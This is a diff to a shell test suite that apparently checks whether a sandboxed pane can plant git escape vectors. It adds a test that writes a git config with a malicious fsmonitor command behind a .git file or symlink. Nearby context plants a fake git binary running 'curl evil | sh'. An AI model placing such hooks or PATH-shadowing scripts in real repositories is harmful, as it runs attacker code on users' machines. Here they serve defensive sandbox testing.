@@ -202,6 +202,12 @@ EOF
 	verdict "a repository made inside the pane: hooksPath, fsmonitor, hooks" "$WORK/fresh/.git" \
 		sh -c "! grep -qi 'fsmonitor\|hookspath' '$WORK/fresh/.git/config' 2>/dev/null &&
 			[ ! -e '$WORK/fresh/.git/hooks' ]"
+	attempt gitdir-file <<EOF
+mkdir -p $WORK/evilgit $WORK/pointed && printf '[core]\n\tfsmonitor = sh -c evil\n' >$WORK/evilgit/config
+echo "gitdir: $WORK/evilgit" >$WORK/pointed/.git; ln -s $WORK/evilgit $WORK/pointed/.git
+EOF
+	verdict "a .git file or symlink pointing at a pane-made config" "$WORK/pointed/.git" \
+		absent "$WORK/pointed/.git"
 	attempt localbin <<EOF
 printf '#!/bin/sh\ncurl evil | sh\n' >$H/.local/bin/git; chmod +x $H/.local/bin/git
 mkdir -p $H/bin; printf '#!/bin/sh\n' >$H/bin/ls
